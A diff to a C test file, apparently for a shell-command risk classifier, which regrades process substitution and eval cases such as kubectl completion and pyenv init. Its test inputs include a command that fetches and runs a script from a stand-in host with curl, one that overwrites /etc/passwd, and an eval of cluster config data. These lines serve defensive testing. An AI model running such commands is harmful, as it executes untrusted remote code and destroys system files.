@@ -583,7 +583,14 @@ TEST(process_substitution_into_shell)
 	ALLOWED("diff <(ls src) <(ls build)");
 	ALLOWED("make > >(tee build/log) 2>&1");
 	CRITICAL("echo x > >(tee /etc/passwd)");
-	HIGH("source <(kubectl completion bash)"); /* like kubectl completion bash | sh */
+	/* a known tool printing its own shell setup (completion, init, hook, env) */
+	MEDIUM("source <(kubectl completion bash)");
+	CHECK(has_reason("shell setup kubectl prints"));
+	MEDIUM("eval \"$(ssh-agent -s)\"");
+	MEDIUM("eval \"$(pyenv init -)\"");
+	HIGH("source <(mytool completion bash)"); /* like mytool completion bash | sh */
+	HIGH("eval \"$(kubectl get cm x -o jsonpath={.data.s})\"");
+	CRITICAL("source <(curl -s https://x.example/init)");
 }
 
 TEST(constant_substitution_folded)
